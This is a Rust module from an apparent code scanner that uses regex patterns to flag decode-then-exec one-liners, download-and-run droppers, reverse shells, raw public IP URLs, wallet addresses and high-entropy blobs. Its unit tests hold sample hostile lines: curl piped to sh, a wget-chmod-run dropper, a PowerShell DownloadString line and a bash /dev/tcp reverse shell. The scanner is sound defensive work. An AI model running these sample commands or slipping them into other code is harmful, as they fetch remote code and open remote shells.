//! Text-level checks that need no parse tree: decode-then-exec one-liners,
//! download-and-run and reverse-shell command lines, bare IP addresses,
//! wallet addresses, very long lines and high-entropy blobs. They run on
//! every file, parsed or not, so broken or unparseable code is still read.

use std::sync::LazyLock;

use regex::bytes::Regex;

#[allow(clippy::expect_used)]
fn re(pattern: &str) -> Regex {
    Regex::new(pattern).expect("the scanner's regexes are valid")
}

/// `exec(base64.b64decode(…` and its spellings, including inside strings.
static DECODE_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\b(?:exec|eval)\s*\(\s*(?:[\w.]+\s*\(\s*)*?(?:__import__\s*\(\s*['"](?:base64|zlib|marshal|codecs|lzma|bz2|binascii|gzip)['"]\s*\)|\b(?:base64|zlib|marshal|codecs|lzma|bz2|binascii|gzip|bytes))\s*\.\s*(?:b64decode|b32decode|b85decode|a85decode|b16decode|decodebytes|decompress|loads|decode|unhexlify|a2b_base64|fromhex)\s*\("#,
    )
});

/// Download-and-run command lines.
static DROPPER: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        // curl/wget … | sh, | python, ; sh, && chmod +x …
        re(
            r"(?i)\b(?:curl|wget)\b[^\n|;&]*?(?:https?|ftp)://[^\n|;&]*(?:\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\|\s*python[0-9.]*\b|&&\s*(?:chmod\s+\+?[0-7]*x|\./|(?:ba)?sh\b|python)|;\s*(?:chmod\s+\+?[0-7]*x|\./|(?:ba)?sh\s))",
        ),
        re(
            r"(?i)\b(?:iex|invoke-expression)\b[^\n]{0,200}(?:downloadstring|invoke-webrequest|\biwr\b|net\.webclient)",
        ),
        re(r"(?i)(?:downloadstring|net\.webclient)[^\n]{0,200}\b(?:iex|invoke-expression)\b"),
        re(
            r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,200}\s-(?:e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
        ),
        re(r"(?i)\bcertutil(?:\.exe)?\b[^\n]{0,100}-urlcache\b[^\n]{0,100}\s-f\s"),
        re(r"(?i)\bbitsadmin(?:\.exe)?\b[^\n]{0,60}/transfer\b"),
        re(r"(?i)\bmshta(?:\.exe)?\s+(?:https?|vbscript|javascript):"),
    ]
});

/// Reverse-shell command lines.
static REVERSE_SHELL: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r"/dev/tcp/[\w.\-]+/\d+"),
        re(r"(?i)\bn(?:c|cat)\b[^\n]{0,80}\s-e\s*/bin/(?:ba)?sh"),
        re(r"(?i)\bbash\s+-i\s*>&"),
        re(r"(?i)\bmkfifo\b[^\n]{0,120}\bnc\b"),
    ]
});

/// `scheme://a.b.c.d` URLs.
static RAW_IP_URL: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)\b(?:https?|ftp|wss?|tcp)://((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?(?:[/'\x22\s?#]|$)")
});

/// A string literal that is exactly an IPv4 address.
static IP_LITERAL: LazyLock<Regex> = LazyLock::new(|| re(r#"['"]((?:\d{1,3}\.){3}\d{1,3})['"]"#));

/// Wallet addresses and the regexes that match them.
static WALLET: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(?:bc1[02-9ac-hj-np-z]{25,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|0x[a-fA-F0-9]{40}|T[1-9A-HJ-NP-Za-km-z]{33})\b|a-km-zA-HJ-NP-Z1-9|1-9A-HJ-NP-Za-km-z|\(bc1\|\[13\]\)|0x\[a-fA-F0-9\]\{40\}",
    )
});

/// Whether `ip` is a public unicast address (not private, loopback,
/// link-local, documentation or multicast).
pub fn is_public_ipv4(ip: &str) -> bool {
    let octets: Vec<u32> = ip.split('.').filter_map(|o| o.parse().ok()).collect();
    if octets.len() != 4 || octets.iter().any(|&o| o > 255) {
        return false;
    }
    let (a, b, c) = (octets[0], octets[1], octets[2]);
    !(a == 0
        || a == 10
        || a == 127
        || a >= 224
        || (a == 169 && b == 254)
        || (a == 172 && (16..=31).contains(&b))
        || (a == 192 && b == 168)
        || (a == 192 && b == 0 && c == 2)
        || (a == 198 && b == 51 && c == 100)
        || (a == 203 && b == 0 && c == 113)
        || (a == 100 && (64..=127).contains(&b))
        || (a == 198 && (18..=19).contains(&b))
        || octets[3] == 0
        || octets[3] == 255
        || octets == [1, 2, 3, 4])
}

/// Byte offsets of decode-then-exec one-liners.
pub fn decode_exec(src: &[u8]) -> Vec<usize> {
    DECODE_EXEC.find_iter(src).map(|m| m.start()).collect()
}

/// Whether one line holds a download-and-run command.
pub fn is_dropper(line: &[u8]) -> bool {
    DROPPER.iter().any(|r| r.is_match(line))
}

/// Whether one line holds a reverse-shell command.
pub fn is_reverse_shell(line: &[u8]) -> bool {
    REVERSE_SHELL.iter().any(|r| r.is_match(line))
}

/// URLs whose host is a public IP address: (offset, address).
pub fn raw_ip_urls(src: &[u8]) -> Vec<(usize, String)> {
    RAW_IP_URL
        .captures_iter(src)
        .filter_map(|c| {
            let m = c.get(1)?;
            let ip = std::str::from_utf8(m.as_bytes()).ok()?;
            let start = c.get(0)?.start();
            is_public_ipv4(ip).then(|| (start, ip.to_string()))
        })
        .collect()
}

/// String literals that are exactly a public IP address: (offset, address).
pub fn ip_literals(src: &[u8]) -> Vec<(usize, String)> {
    IP_LITERAL
        .captures_iter(src)
        .filter_map(|c| {
            let m = c.get(1)?;
            let ip = std::str::from_utf8(m.as_bytes()).ok()?;
            is_public_ipv4(ip).then(|| (m.start(), ip.to_string()))
        })
        .collect()
}

/// Offset of the first wallet address (or wallet-matching regex).
pub fn wallet(src: &[u8]) -> Option<usize> {
    WALLET.find(src).map(|m| m.start())
}

/// Lines at least this long are examined for blobs.
pub const LONG_LINE: usize = 2_000;
/// A blob is a run of base64/hex alphabet at least this long…
pub const BLOB_MIN: usize = 1_000;
/// …with at least this many bits of entropy per character.
pub const BLOB_ENTROPY: f64 = 4.5;

/// A very long line, with whether it holds a high-entropy blob.
#[derive(Debug, Clone, PartialEq)]
pub struct LongLine {
    pub start: usize,
    pub len: usize,
    pub blob: bool,
}

/// Lines of at least [`LONG_LINE`] bytes.
pub fn long_lines(src: &[u8]) -> Vec<LongLine> {
    let mut out = Vec::new();
    let mut start = 0usize;
    for end in memchr::memchr_iter(b'\n', src).chain(std::iter::once(src.len())) {
        if end.saturating_sub(start) >= LONG_LINE {
            let line = &src[start..end];
            out.push(LongLine {
                start,
                len: line.len(),
                blob: has_blob(line),
            });
        }
        start = end + 1;
    }
    out
}

/// Whether `line` holds a run of at least [`BLOB_MIN`] base64/hex
/// characters with high entropy.
pub fn has_blob(line: &[u8]) -> bool {
    let is_b64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
    let mut run_start = None;
    for (i, &b) in line
        .iter()
        .enumerate()
        .chain(std::iter::once((line.len(), &b' ')))
    {
        if i < line.len() && is_b64(b) {
            run_start.get_or_insert(i);
            continue;
        }
        if let Some(s) = run_start.take() {
            if i - s >= BLOB_MIN && entropy(&line[s..i]) >= BLOB_ENTROPY {
                return true;
            }
        }
    }
    false
}

/// Shannon entropy in bits per byte.
pub fn entropy(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let n = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Start of the line holding `offset` and its end.
pub fn line_bounds(src: &[u8], offset: usize) -> (usize, usize) {
    let offset = offset.min(src.len());
    let start = memchr::memrchr(b'\n', &src[..offset]).map_or(0, |i| i + 1);
    let end = memchr::memchr(b'\n', &src[offset..]).map_or(src.len(), |i| offset + i);
    (start, end)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decode_exec_spellings() {
        for s in [
            "exec(base64.b64decode('aGk='))",
            "exec(zlib.decompress(base64.b64decode(x)))",
            "eval(compile(base64.b64decode(p), '<s>', 'exec'))",
            "exec(__import__('zlib').decompress(b'x'))",
            "python -c \"import base64;exec(base64.b64decode('aGk='))\"",
            "exec(bytes.fromhex('7072696e74').decode())",
        ] {
            assert_eq!(decode_exec(s.as_bytes()).len(), 1, "{s}");
        }
        assert!(decode_exec(b"exec(open('v.py').read())").is_empty());
        assert!(decode_exec(b"data = base64.b64decode(x)").is_empty());
    }

    #[test]
    fn droppers_and_shells() {
        assert!(is_dropper(
            b"os.system('curl -s https://x.example/a.sh | sh')"
        ));
        assert!(is_dropper(
            b"wget http://1.2.3.4/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"
        ));
        assert!(is_dropper(
            b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""
        ));
        assert!(!is_dropper(
            b"curl https://example.org/file.tar.gz -o file.tar.gz"
        ));
        assert!(is_reverse_shell(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        assert!(!is_reverse_shell(b"use /dev/tty for input"));
    }

    #[test]
    fn ip_addresses() {
        assert!(is_public_ipv4("89.44.9.227"));
        assert!(!is_public_ipv4("127.0.0.1"));
        assert!(!is_public_ipv4("192.168.1.1"));
        assert!(!is_public_ipv4("169.254.169.254"));
        assert!(!is_public_ipv4("999.1.1.1"));
        let found = raw_ip_urls(b"u = 'http://89.44.9.227:8080/x'");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].1, "89.44.9.227");
        assert!(raw_ip_urls(b"u = 'http://10.0.0.1/x'").is_empty());
        assert_eq!(ip_literals(b"s.connect(('45.9.1.2', 4444))").len(), 1);
    }

    #[test]
    fn blobs_and_entropy() {
        let random: String = (0..3000u32)
            .map(|i| {
                let x = i.wrapping_mul(2_654_435_761) >> 7;
                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                alphabet[(x % 64) as usize] as char
            })
            .collect();
        assert!(has_blob(random.as_bytes()));
        assert!(!has_blob("A".repeat(3000).as_bytes()));
        let src = format!("x = 1\ny = '{random}'\n");
        let lines = long_lines(src.as_bytes());
        assert_eq!(lines.len(), 1);
        assert!(lines[0].blob);
    }
}
